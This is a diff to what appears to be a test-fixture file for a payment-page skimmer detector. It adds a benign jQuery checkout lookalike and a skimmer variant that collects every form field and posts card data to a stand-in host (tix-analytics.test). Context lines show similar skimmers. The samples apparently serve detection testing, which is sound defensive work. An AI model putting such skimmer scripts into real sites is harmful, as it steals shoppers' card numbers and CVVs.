@@ -715,6 +715,14 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
             "//api.kartpay.example/v1/charge',contentType:'application/json',data:JSON."
             "stringify({cardNumber:$('#cardNumber').val(),cvv:$('#cvv').val()}),success:function"
             "(r){window.location=r.redirect;}});});});</script>")}, "form-skimmer", M),
+    ("a jQuery checkout summing its inputs, then posting the card to its gateway", {
+        "footer": _PAY_FORM + (
+            "<script>jQuery(function($){$('#submitButton').on('click',function(){var t=0;$("
+            "'input').each(function(){t+=parseFloat($(this).val())||0;});$.ajax({type:'POST',"
+            "url:'https://api.kartpay.example/v1/charge',contentType:'application/json',data:"
+            "JSON.stringify({cardNumber:$('#cardNumber').val(),cvv:$('#cvv').val(),t:t}),"
+            "success:function(r){window.location=r.redirect;}});});});</script>")},
+     "form-skimmer", M),
     ("a jQuery checkout that checks every input is filled, then posts the card to its "
      "gateway", {"footer": _PAY_FORM + (
          "<script>jQuery(function($){$('#submitButton').on('click',function(){var ok=true;$("
@@ -823,6 +831,11 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
         "'input').each(function(){d[$(this).attr('name')]=$(this).val();});if(d.cardNumber){"
         "$.post('https://tix-analytics.test/collect',{d:JSON.stringify(d)});}});});</script>")},
      "form-skimmer"),
+    ("every input jQuery picks built into one string of name=value pairs", {"footer": (
+        _PAY_FORM + "<script>jQuery(function($){$('#submitButton').on('click',function(){var "
+        "s='';jQuery('input, select').each(function(){s+=jQuery(this).attr('name')+'='+"
+        "jQuery(this).val()+'&';});if(s.indexOf('cardNumber')>-1){$.post('https://tix-"
+        "analytics.test/collect',{d:s});}});});</script>")}, "form-skimmer"),
     ("$.ajax with its url first and method after, every form serialised", {"footer": (
         "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({url:"
         "'https://sales-reports.test/api',method:'POST',data:{f:$('form').serialize(),c:$("
